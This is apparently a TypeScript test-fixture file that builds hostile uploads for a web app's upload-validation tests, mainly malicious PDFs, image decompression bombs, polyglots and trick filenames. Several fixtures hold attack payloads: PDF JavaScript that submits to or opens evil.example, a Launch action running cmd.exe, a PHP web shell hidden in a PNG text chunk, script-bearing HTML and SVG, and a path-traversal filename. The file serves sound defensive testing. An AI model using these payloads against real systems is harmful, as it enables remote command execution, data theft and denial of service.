import zlib from 'node:zlib';
import sharp from 'sharp';
import { makePdfWithActions, makePdfWithAttachments } from '@/lib/evidence/test-fixtures';

/**
 * Hostile files for the upload routes, all generated here (nothing binary is committed): PDFs that
 * run JavaScript, are encrypted, truncated, 100,000 pages long or a decompression bomb; images that
 * decode to gigapixels or carry GPS coordinates; polyglots that are two formats at once.
 */
export type HostileFile = {
  id: string;
  category: 'pdf' | 'image' | 'polyglot' | 'other';
  filename: string;
  claimedType: string;
  build: () => Promise<Uint8Array>;
};

const latin1 = (value: string) => new Uint8Array(Buffer.from(value, 'latin1'));

/** A PDF from numbered object bodies (1 … n), with a correct cross-reference table unless told otherwise. */
export function buildPdf(objects: string[], options: { trailerExtra?: string; header?: string } = {}): string {
  let body = `${options.header ?? '%PDF-1.7'}\n%\xe2\xe3\xcf\xd3\n`;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailerExtra ?? ''} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return body;
}

const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
const CONTENT = (text: string) => `<< /Length ${text.length + 26} >>\nstream\nBT /F1 12 Tf 72 760 Td (${text}) Tj ET\nendstream`;
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

function onePage(catalogExtra = '', extraObjects: string[] = [], trailerExtra = ''): string {
  return buildPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      PAGE,
      CONTENT('Exhibit'),
      FONT,
      ...extraObjects,
    ],
    { trailerExtra },
  );
}

/** 100,000 real page objects sharing one content stream: about 9 MB, under the 20 MB upload limit. */
function hundredThousandPages(): Uint8Array {
  const count = 100_000;
  const parts: string[] = ['%PDF-1.7\n'];
  let length = parts[0].length;
  const offsets: number[] = [];
  const push = (object: string) => {
    offsets.push(length);
    const chunk = `${offsets.length} 0 obj\n${object}\nendobj\n`;
    parts.push(chunk);
    length += chunk.length;
  };
  const kids = Array.from({ length: count }, (_, i) => `${i + 5} 0 R`).join(' ');
  push('<< /Type /Catalog /Pages 2 0 R >>');
  push(`<< /Type /Pages /Kids [${kids}] /Count ${count} >>`);
  push(CONTENT('page'));
  push(FONT);
  for (let i = 0; i < count; i++)
    push('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>');
  const xref = [
    `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`),
  ].join('');
  parts.push(xref, `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`);
  return new Uint8Array(Buffer.from(parts.join(''), 'latin1'));
}

/** Deflates `total` bytes of `fill` without holding them in memory. */
async function deflateRepeated(chunk: Buffer, times: number): Promise<Buffer> {
  const deflate = zlib.createDeflate({ level: 9 });
  const output: Buffer[] = [];
  deflate.on('data', (data: Buffer) => output.push(data));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  for (let i = 0; i < times; i++) if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
  deflate.end();
  await done;
  return Buffer.concat(output);
}

function crc32(bytes: Buffer): number {
  let crc = -1;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return (crc ^ -1) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function pngHeader(width: number, height: number, bitDepth: number, colorType: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(bitDepth, 8);
  ihdr.writeUInt8(colorType, 9);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr)]);
}

/** 20,000 × 20,000 pixels (400 megapixels, 1.6 GB as RGBA) in about 50 KB. */
async function pngBomb(): Promise<Uint8Array> {
  const side = 20_000;
  const row = Buffer.alloc(1 + side / 8);
  const idat = await deflateRepeated(row, side);
  return new Uint8Array(Buffer.concat([pngHeader(side, side, 1, 0), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]));
}

async function smallJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 23, g: 111, b: 106 } } })
    .jpeg()
    .toBuffer();
}

async function smallPng(): Promise<Buffer> {
  return sharp({ create: { width: 32, height: 32, channels: 4, background: { r: 200, g: 0, b: 0, alpha: 1 } } })
    .png()
    .toBuffer();
}

async function pdfFlateBomb(): Promise<Uint8Array> {
  const zeros = await deflateRepeated(Buffer.alloc(1024 * 1024), 200);
  const head = buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    PAGE.replace('/Contents 4 0 R', '/Contents 6 0 R'),
    CONTENT('x'),
    FONT,
  ]).split('xref\n')[0];
  const stream = Buffer.concat([
    Buffer.from(`${head}6 0 obj\n<< /Length ${zeros.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'),
    zeros,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
  return new Uint8Array(stream);
}

const asBytes = (value: string) => async () => latin1(value);

export const HOSTILE_FILES: HostileFile[] = [
  {
    id: 'pdf-javascript-openaction',
    category: 'pdf',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: asBytes(
      onePage('/OpenAction 6 0 R', ['<< /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("https://evil.example"\\);) >>']),
    ),
  },
  {
    id: 'pdf-javascript-names-tree',
    category: 'pdf',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: asBytes(
      onePage('/Names << /JavaScript << /Names [(x) 6 0 R] >> >>', [
        '<< /S /JavaScript /JS (app.launchURL\\("https://evil.example"\\)) >>',
      ]),
    ),
  },
  {
    id: 'pdf-javascript-page-aa',
    category: 'pdf',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: asBytes(onePage('', []).replace('/Contents 4 0 R', '/Contents 4 0 R /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>')),
  },
  {
    id: 'pdf-launch-action',
    category: 'pdf',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: asBytes(onePage('/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>')),
  },
  {
    id: 'pdf-embedded-file',
    category: 'pdf',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: asBytes(
      onePage('/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>', [
        '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
        '<< /Length 2 >>\nstream\nMZ\nendstream',
      ]),
    ),
  },
  {
    // Issue 17, item 8: accepted only as a rebuilt copy of its pages, without the attachments.
    id: 'pdf-attached-script-pdf-and-html',
    category: 'pdf',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: makePdfWithAttachments,
  },
  {
    id: 'pdf-attachment-annotation-and-remote-actions',
    category: 'pdf',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: makePdfWithActions,
  },
  {
    id: 'pdf-xfa-form',
    category: 'pdf',
    filename: 'form.pdf',
    claimedType: 'application/pdf',
    build: asBytes(
      onePage('/AcroForm << /Fields [] /XFA 6 0 R >>', [
        '<< /Length 50 >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>\nendstream',
      ]),
    ),
  },
  {
    id: 'pdf-encrypted',
    category: 'pdf',
    filename: 'locked.pdf',
    claimedType: 'application/pdf',
    build: asBytes(
      onePage(
        '',
        [
          '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1028 /O <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> /U <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> >>',
        ],
        '/Encrypt 6 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]',
      ),
    ),
  },
  {
    id: 'pdf-truncated-half',
    category: 'pdf',
    filename: 'cut.pdf',
    claimedType: 'application/pdf',
    build: async () => {
      const whole = onePage();
      return latin1(whole.slice(0, Math.floor(whole.length / 2)));
    },
  },
  {
    id: 'pdf-truncated-no-eof',
    category: 'pdf',
    filename: 'cut.pdf',
    claimedType: 'application/pdf',
    build: async () => latin1(onePage().replace(/startxref[\s\S]*$/, '')),
  },
  { id: 'pdf-header-only', category: 'pdf', filename: 'empty.pdf', claimedType: 'application/pdf', build: asBytes('%PDF-1.7\n') },
  {
    id: 'pdf-xref-beyond-eof',
    category: 'pdf',
    filename: 'bad.pdf',
    claimedType: 'application/pdf',
    build: async () => latin1(onePage().replace(/startxref\n\d+/, 'startxref\n999999999')),
  },
  {
    id: 'pdf-100000-pages',
    category: 'pdf',
    filename: 'long.pdf',
    claimedType: 'application/pdf',
    build: async () => hundredThousandPages(),
  },
  {
    id: 'pdf-page-count-lie',
    category: 'pdf',
    filename: 'lie.pdf',
    claimedType: 'application/pdf',
    build: asBytes(onePage().replace('/Count 1', '/Count 100000000')),
  },
  {
    id: 'pdf-page-tree-loop',
    category: 'pdf',
    filename: 'loop.pdf',
    claimedType: 'application/pdf',
    build: asBytes(
      buildPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 2 >>',
        '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>',
      ]),
    ),
  },
  { id: 'pdf-flate-bomb', category: 'pdf', filename: 'bomb.pdf', claimedType: 'application/pdf', build: pdfFlateBomb },
  {
    id: 'pdf-deep-nesting',
    category: 'pdf',
    filename: 'deep.pdf',
    claimedType: 'application/pdf',
    build: asBytes(onePage(`/Deep ${'['.repeat(50_000)}${']'.repeat(50_000)}`)),
  },
  {
    id: 'pdf-huge-mediabox',
    category: 'pdf',
    filename: 'huge.pdf',
    claimedType: 'application/pdf',
    build: asBytes(onePage().replace('/MediaBox [0 0 595 842]', '/MediaBox [0 0 99999999999 99999999999]')),
  },
  {
    id: 'pdf-negative-length',
    category: 'pdf',
    filename: 'neg.pdf',
    claimedType: 'application/pdf',
    build: asBytes(onePage().replace(/\/Length \d+/, '/Length -500')),
  },
  { id: 'image-png-bomb-400-megapixels', category: 'image', filename: 'photo.png', claimedType: 'image/png', build: pngBomb },
  {
    id: 'image-png-dimension-lie',
    category: 'image',
    filename: 'photo.png',
    claimedType: 'image/png',
    build: async () =>
      new Uint8Array(
        Buffer.concat([
          pngHeader(100_000, 100_000, 8, 6),
          pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(64))),
          pngChunk('IEND', Buffer.alloc(0)),
        ]),
      ),
  },
  {
    id: 'image-png-bad-crc',
    category: 'image',
    filename: 'photo.png',
    claimedType: 'image/png',
    build: async () => {
      const png = Buffer.from(await smallPng());
      png[png.length - 5] ^= 0xff;
      return new Uint8Array(png);
    },
  },
  {
    id: 'image-png-truncated',
    category: 'image',
    filename: 'photo.png',
    claimedType: 'image/png',
    build: async () => new Uint8Array((await smallPng()).subarray(0, 40)),
  },
  {
    id: 'image-jpeg-dimension-lie',
    category: 'image',
    filename: 'photo.jpg',
    claimedType: 'image/jpeg',
    build: async () => {
      const jpeg = Buffer.from(await smallJpeg());
      const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
      jpeg.writeUInt16BE(65_500, sof + 5);
      jpeg.writeUInt16BE(65_500, sof + 7);
      return new Uint8Array(jpeg);
    },
  },
  {
    id: 'image-jpeg-gps-exif',
    category: 'image',
    filename: 'at-home.jpg',
    claimedType: 'image/jpeg',
    build: async () =>
      new Uint8Array(
        await sharp(await smallJpeg())
          .withExif({
            IFD0: { Make: 'Joinder', Model: 'Hostile' },
            IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '37/1 34/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '126/1 58/1 0/1' },
          })
          .jpeg()
          .toBuffer(),
      ),
  },
  {
    id: 'image-webp-truncated',
    category: 'image',
    filename: 'photo.webp',
    claimedType: 'image/webp',
    build: async () =>
      new Uint8Array(
        (
          await sharp(await smallPng())
            .webp()
            .toBuffer()
        ).subarray(0, 30),
      ),
  },
  {
    id: 'polyglot-jpeg-pdf',
    category: 'polyglot',
    filename: 'both.jpg',
    claimedType: 'image/jpeg',
    build: async () =>
      new Uint8Array(
        Buffer.concat([
          await smallJpeg(),
          Buffer.from(onePage('/OpenAction 6 0 R', ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']), 'latin1'),
        ]),
      ),
  },
  {
    id: 'polyglot-pdf-html',
    category: 'polyglot',
    filename: 'page.pdf',
    claimedType: 'application/pdf',
    build: asBytes(`%PDF-1.4\n<html><body><script>alert("joinder-xss")</script></body></html>\n${onePage().slice(9)}`),
  },
  {
    id: 'polyglot-png-php',
    category: 'polyglot',
    filename: 'shell.png',
    claimedType: 'image/png',
    build: async () => {
      const png = Buffer.from(await smallPng());
      const iend = png.length - 12;
      return new Uint8Array(
        Buffer.concat([
          png.subarray(0, iend),
          pngChunk('tEXt', Buffer.from('Comment\0<?php system($_GET["c"]); ?>', 'latin1')),
          png.subarray(iend),
        ]),
      );
    },
  },
  {
    id: 'polyglot-gif-zip',
    category: 'polyglot',
    filename: 'gifar.gif',
    claimedType: 'image/gif',
    build: async () => latin1(`GIF89a\x01\x00\x01\x00\x00\x00\x00;PK\x03\x04\x14\x00\x00\x00\x00\x00evil.class`),
  },
  {
    id: 'html-named-pdf',
    category: 'other',
    filename: 'invoice.pdf',
    claimedType: 'application/pdf',
    build: asBytes('<!doctype html><script>alert("joinder-xss")</script>'),
  },
  {
    id: 'svg-with-script',
    category: 'other',
    filename: 'logo.png',
    claimedType: 'image/png',
    build: asBytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert("joinder-xss")</script></svg>'),
  },
  {
    id: 'exe-named-jpg',
    category: 'other',
    filename: 'photo.jpg',
    claimedType: 'image/jpeg',
    build: asBytes(`MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff${'\x00'.repeat(50)}This program cannot be run in DOS mode.`),
  },
  {
    id: 'zip-named-pdf',
    category: 'other',
    filename: 'bill.pdf',
    claimedType: 'application/pdf',
    build: asBytes('PK\x03\x04\x14\x00\x00\x00\x08\x00evil.txt'),
  },
  { id: 'empty-file', category: 'other', filename: 'empty.pdf', claimedType: 'application/pdf', build: async () => new Uint8Array() },
  { id: 'one-byte', category: 'other', filename: 'a.jpg', claimedType: 'image/jpeg', build: async () => new Uint8Array([0xff]) },
  {
    id: 'filename-traversal',
    category: 'other',
    filename: '../../../../etc/passwd.pdf',
    claimedType: 'application/pdf',
    build: asBytes(onePage()),
  },
  {
    id: 'filename-rtl-override',
    category: 'other',
    filename: 'invoice\u202Efdp.exe',
    claimedType: 'application/pdf',
    build: asBytes(onePage()),
  },
  {
    id: 'filename-very-long',
    category: 'other',
    filename: `${'가'.repeat(400)}.pdf`,
    claimedType: 'application/pdf',
    build: asBytes(onePage()),
  },
];
